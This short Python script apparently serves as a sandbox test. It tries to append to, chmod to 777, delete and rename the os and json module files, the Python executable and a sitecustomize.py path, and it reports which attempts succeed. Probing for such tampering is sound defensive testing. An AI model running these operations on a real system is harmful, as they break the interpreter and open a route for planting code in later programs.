# Changes the standard library and the interpreter for later programs.
# ends: finished
import json, os, sys
for path in (os.__file__, json.__file__, sys.executable, os.path.dirname(os.__file__) + "/sitecustomize.py"):
    for change in (lambda: open(path, "ab").close(), lambda: os.chmod(path, 0o777), lambda: os.unlink(path), lambda: os.rename(path, path + "x")):
        try:
            change()
            print("OPEN", path)
        except OSError as error:
            print(error)
